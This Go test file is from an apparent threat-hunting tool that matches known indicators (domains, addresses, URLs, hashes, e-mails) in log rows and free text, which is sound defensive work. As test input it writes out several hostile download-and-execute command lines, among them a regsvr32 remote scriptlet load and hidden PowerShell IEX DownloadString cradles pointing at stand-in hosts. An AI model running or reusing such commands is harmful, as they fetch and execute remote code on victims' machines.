package hunt

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"foxhound/feed"
	"foxhound/indicator"
	"foxhound/internal/logs"
	"foxhound/internal/match"
	"foxhound/internal/roles"
)

// inText shows the matches of a row of the table with one field.
func inText(t *testing.T, related bool, table string, field logs.Field, indicators ...string) (lines []string) {
	t.Helper()
	f := &feed.Result{}
	for _, spec := range indicators {
		f.Indicators = append(f.Indicators, listed(t, spec))
	}
	set := setOf(t, f)
	w := &bench{judge: &judge{set: set, margin: indicator.DefaultMargin, related: related}, observer: observer{index: set.index}}
	w.row("test", &logs.Record{Table: table, Line: 1, Fields: []logs.Field{field}})
	for _, m := range told(w.out.matches) {
		lines = append(lines, m.Indicator.Value+" "+string(m.Tier)+" "+m.Observed)
	}
	return lines
}

// What stands in free text has the tier that it would have in a column of its own.
func TestFreeText(t *testing.T) {
	const name, pair, addr, url, sum, mail = "softandtec.com", "80.211.47.159:7582", "80.211.47.160", "http://woodfez.biz:7582/gate", "0123456789abcdef0123456789abcdef", "bob@genuskox.biz"
	for _, tt := range []struct{ text, want string }{
		{"nslookup softandtec.com", name + " exact softandtec.com"},
		{`"SOFTANDTEC.com."`, name + " exact SOFTANDTEC.com"},
		{"host=x.softandtec.com,", name + " host x.softandtec.com"},
		{"curl -s https://softandtec.com:8443/a?b=c -o x", name + " exact https://softandtec.com:8443/a?b=c"},
		{`regsvr32 /s /i:http://softandtec.com/x.sct`, name + " exact http://softandtec.com/x.sct"},
		{`IEX(New-Object Net.WebClient).DownloadString('http://softandtec.com/x')`, name + " exact http://softandtec.com/x"},
		{`net use \\softandtec.com\share`, name + " exact softandtec.com"},
		{"a-softandtec.com", ""}, {"softandtec.com.evil.org", ""}, {"xsoftandtec.com softandtec.comx", ""}, {"softandtec[.]com", ""},
		{`C:\Windows\softandtec.com`, ""}, {`C:\\Windows\\softandtec.com`, ""}, {"/usr/bin/softandtec.com", ""}, {"u=https%3A%2F%2Fsoftandtec.com", ""},
		{"http://good.org/?u=http://softandtec.com", ""},
		{"80.211.47.159:7582", pair + " exact 80.211.47.159:7582"},
		{"connect to 80.211.47.159:7582.", pair + " exact 80.211.47.159:7582"},
		{"dst:80.211.47.159:80 failed", pair + " host 80.211.47.159:80"},
		{"for outside:80.211.47.159/7582 (80.211.47.159/7582)", pair + " exact 80.211.47.159/7582"},
		{"GET http://80.211.47.159/gate", pair + " host http://80.211.47.159/gate"},
		{"GET http://80.211.47.160/gate", addr + " exact http://80.211.47.160/gate"},
		{"80.211.47.160", addr + " exact 80.211.47.160"}, // all that the column says
		{"from 80.211.47.159 and 80.211.47.160", ""}, {"80.211.47.160/24 x", ""}, {"180.211.47.159:7582", ""}, {"80.211.47.159.1:7582", ""},
		{"1.80.211.47.160:1 v80.211.47.160:1", ""}, {"80.211.47.159:7582x", ""}, {"80.211.47.159:758200", ""},
		{"see http://woodfez.biz:7582/gate.", url + " exact http://woodfez.biz:7582/gate"},
		{"see woodfez.biz:7582/gate?a=b,", url + " endpoint woodfez.biz:7582/gate?a=b"},
		{"see woodfez.biz:80", url + " host woodfez.biz:80"},
		{"MD5=0123456789ABCDEF0123456789abcdef.", sum + " exact 0123456789abcdef0123456789abcdef"},
		{"md5:0123456789abcdef0123456789abcdef0", ""},
		{"mailto:bob@GENUSKOX.biz", mail + " exact bob@genuskox.biz"},
		{"bob@softandtec.com", ""}, // its domain is related
		{"softandtec.com:443#to=bob@good.org", name + " exact softandtec.com:443#to=bob@good.org"},
		{"good.org?to=bob@softandtec.com", ""},
	} {
		got := inText(t, false, "DeviceProcessEvents", logs.Field{Name: "ProcessCommandLine", Text: []byte(tt.text)}, name, pair, addr, url, sum, mail)
		if strings.Join(got, "\n") != tt.want {
			t.Errorf("%s\ngot  %q\nwant %q", tt.text, got, tt.want)
		}
	}
}

func TestRelatedInFreeText(t *testing.T) {
	for text, want := range map[string]string{
		"from 80.211.47.159 on": "80.211.47.159:7582 related 80.211.47.159",
		"ping [2a02::1] x":      "2a02::1 related [2a02::1]",
		"to bob@softandtec.com": "softandtec.com related bob@softandtec.com",
	} {
		got := inText(t, true, "DeviceProcessEvents", logs.Field{Name: "ProcessCommandLine", Text: []byte(text)}, "80.211.47.159:7582", "2a02::1", "softandtec.com")
		if strings.Join(got, "\n") != want {
			t.Errorf("%s: got %q, want %q", text, got, want)
		}
	}
}

// Of a table that the model does not know, all text is free text: one severity lower, of no
// direction and no verdict, and the entity is a machine that a column is named after.
func TestPlainTables(t *testing.T) {
	for _, tt := range []struct{ row, want string }{
		{"Syslog SyslogMessage=query:+softandtec.com HostIP=80.211.47.159 Computer=web1", "80.211.47.159:7582 host HostIP unknown unknown current Informational web1\nsoftandtec.com exact SyslogMessage unknown unknown current Medium web1"},
		{"Syslog Computer=softandtec.com ActionType=ConnectionFailed", "softandtec.com exact Computer unknown unknown current Medium softandtec.com"},
		{"Text Text=80.211.47.159", ""}, // a bare address in a line, even alone
		{"Text Text=80.211.47.159:7582", "80.211.47.159:7582 exact Text unknown unknown current Medium"},
	} {
		var got []string
		for _, m := range judged(t, false, []string{"softandtec.com", "80.211.47.159:7582"}, tt.row) {
			got = append(got, show(m))
		}
		if diff := cmp.Diff(tt.want, strings.Join(got, "\n")); diff != "" {
			t.Errorf("%s (-want +got)\n%s", tt.row, diff)
		}
	}
}

// JSON is read as what it spells, whole in a field or cut off in a line.
func TestPlainJSON(t *testing.T) {
	for _, f := range []logs.Field{
		{Name: "EventData", Kind: logs.JSON, Text: []byte(`{"QueryName":"\u0073oftandtec.com","p":"C:\\x\\y"}`)},
		{Name: "EventData", Kind: logs.JSON, Text: []byte(`["http:\/\/softandtec.com\/x"]`)},
		{Name: "Message", Text: []byte(`see http://softandtec.com`)},
	} {
		if got := inText(t, false, "WindowsEvent", f, "softandtec.com"); len(got) != 1 {
			t.Errorf("%s: %q", f.Text, got)
		}
	}
	for text, n := range map[string]int{
		`{"url":"http:\/\/softandtec.com\/x","cut`: 1, `{"m":"a\nsoftandtec.com"`: 1, `{"p":"C:\\a\\softandtec.com"}`: 0, `dir C:\new\nsoftandtec.com`: 0,
	} {
		if got := inText(t, false, roles.TextTable, logs.Field{Name: roles.TextTable, Text: []byte(text)}, "softandtec.com"); len(got) != n {
			t.Errorf("%s: %q", text, got)
		}
	}
	for _, kind := range []logs.Kind{logs.Number, logs.Bool, logs.Null} {
		if got := inText(t, false, "Syslog", logs.Field{Name: "x", Kind: kind, Text: []byte("softandtec.com")}, "softandtec.com"); got != nil {
			t.Errorf("kind %d: %q", kind, got)
		}
	}
}

func TestPlainNames(t *testing.T) {
	if roles.TextTable != logs.TextTable {
		t.Errorf("text is of the table %s in logs, and %s in roles", logs.TextTable, roles.TextTable)
	}
	got := inText(t, false, "", logs.Field{Name: "q", Text: []byte("softandtec.com")}, "softandtec.com")
	if diff := cmp.Diff([]string{"softandtec.com exact softandtec.com"}, got); diff != "" {
		t.Error(diff)
	}
}

// Lines of text have no time, and say nothing of it.
func TestUndatedText(t *testing.T) {
	w := &bench{judge: &judge{set: setOf(t)}, observer: observer{index: setOf(t).index}}
	for table, want := range map[string]int64{"": 0, "Text": 0, "Syslog": 1} {
		w.out.undated = 0
		if w.row("test", &logs.Record{Table: table}); w.out.undated != want {
			t.Errorf("%q: %d undated rows, want %d", table, w.out.undated, want)
		}
	}
}

// unescaped does what a JSON reader does, but for blanks in place of line breaks and tabs.
func FuzzUnescaped(f *testing.F) {
	for _, seed := range []string{`a\/b`, `\u0041\u00e9`, `\ud83d\ude00`, `\ud800`, `\ud800\ud800x`, `\\\\`, `\n\"`, `\u12`, `\`, `\x`, "\\u00", `\ud83d\u0041`} {
		f.Add(seed)
	}
	blanks := strings.NewReplacer("\b", " ", "\f", " ", "\n", " ", "\r", " ", "\t", " ")
	f.Fuzz(func(t *testing.T, text string) {
		got := string(unescaped([]byte(text)))
		var want string
		if !utf8.ValidString(text) || json.Unmarshal([]byte(`"`+text+`"`), &want) != nil {
			return
		}
		if blanks.Replace(got) != blanks.Replace(want) {
			t.Errorf("%s: %q, want %q", text, got, want)
		}
	})
}

// A text of many words costs a look at each, and keeps what is listed alone.
func TestManyWords(t *testing.T) {
	keys := []match.Key{match.Name("softandtec.com")}
	index := match.New(1, func(int32) match.Key { return keys[0] })
	index.Add(index.Place(keys[0]))
	o := &observer{index: index}
	text := []byte(strings.Repeat("a.b.example 1.2.3.4:80 http://c.example/x softandtec.com ", 20_000))
	o.text(text, true)
	if len(o.seen) > 1 {
		t.Errorf("%d observations of one name", len(o.seen))
	}
	o.seen = make([]observation, 0, 8)
	if n := testing.AllocsPerRun(3, func() { o.reset(); o.text(text, true) }); n > 2 {
		t.Errorf("%v allocations", n)
	}
}

func BenchmarkText(b *testing.B) {
	set := setOf(b, manyIndicators(100_000))
	o := &observer{index: set.index}
	text := []byte(strings.Repeat(`powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://a.example:8080/a/b.ps1?x=1')" C:\Users\bob\x.log 10.0.0.1:80 `, 100))
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		o.reset()
		o.text(text, true)
	}
}

// TestSweepText hunts what is listed among words, with all that may stand around it: with the
// sweep and without, all is the same.
func TestSweepText(t *testing.T) {
	values := []string{"softandtec.com", "bücher.example", "80.211.47.159:7582", "[2a02::1]:443", "http://woodfez.biz:7582/gate", "0123456789abcdef0123456789abcdef", "bob@genuskox.biz"}
	around := []string{"%", "%.", "%...", "%!", "%:!.", "(%)", `"%"`, "'%'", "`%`", "<%>", "[%]", "{%}", "|%|", "**%**", "a=%&b", "x:%", "/i:%", `\\%\x`, `C:\%`, `\"%\"`, "%,é", "é,%",
		"%\u00a0", "\u00a0%", "“%”", "x.%", "x.%...", "_%_", "%->", "%/x?y#z", "%/7582", "http://%", "//%", "%\\n", "\\n%", "u%2F%"}
	var lines, rows strings.Builder
	f := &feed.Result{}
	for _, v := range values {
		ind := listed(t, strings.ReplaceAll(v, "/gate", ""))
		f.Indicators = append(f.Indicators, ind)
		for _, a := range around {
			text := "see " + strings.ReplaceAll(a, "%", v) + " x"
			lines.WriteString(text + "\n")
			row, err := json.Marshal(map[string]string{"Type": "Syslog", "SyslogMessage": text})
			if err != nil {
				t.Fatal(err)
			}
			rows.Write(append(row, '\n'))
		}
	}
	for name, log := range map[string]string{"notes.txt": lines.String(), "syslog.ndjson": rows.String(), "cut.ndjson": rows.String() + strings.ReplaceAll(rows.String(), "\"}\n", "\n")} {
		path := filepath.Join(t.TempDir(), name)
		if err := os.WriteFile(path, []byte(log), 0o600); err != nil {
			t.Fatal(err)
		}
		if n := sameBothWays(t, path, f); n < 100 {
			t.Errorf("%s: %d matches", name, n)
		}
	}
}
